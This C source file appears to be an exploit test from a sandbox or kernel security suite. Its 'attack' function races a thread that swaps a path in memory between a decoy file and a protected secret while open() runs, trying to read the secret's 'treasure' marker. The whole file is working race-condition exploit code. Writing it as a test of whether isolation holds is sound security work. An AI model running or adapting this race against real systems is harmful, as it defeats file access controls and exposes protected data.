// Changes a name in memory while the kernel is asked to open it, and whoever is told of that reads it.
#include "skill.h"
#include <pthread.h>

#define ROUNDS 300

static volatile char name[4096];
static volatile int is_over;
static volatile long changes;

static void set_name(const char *to) {
    for (size_t at = 0; at < sizeof name; at++) {
        name[at] = to[at];
        if (!to[at]) return;
    }
}

static void *change(void *both) {
    char **names = both;
    for (; !is_over; changes++) set_name(names[changes % 2]);
    return NULL;
}

static const char *attack(const struct targets *to) {
    pthread_t thread;
    char text[8];
    char *names[] = {below(to->writable, "mine"), to->secret};
    if (make_file(names[0]) < 0) return met(-1);
    set_name(names[0]);
    if (pthread_create(&thread, NULL, change, names)) return "no thread";
    while (!changes) usleep(100);
    int is_read = 0;
    for (int round = 0; round < ROUNDS && !is_read; round++) {
        int file = open((const char *)name, O_RDWR);
        if (file < 0) continue;
        is_read = read(file, text, sizeof text) == sizeof text && !memcmp(text, "treasure", sizeof text);
        close(file);
    }
    is_over = 1;
    pthread_join(thread, NULL);
    return is_read ? NULL : NOTHING;
}
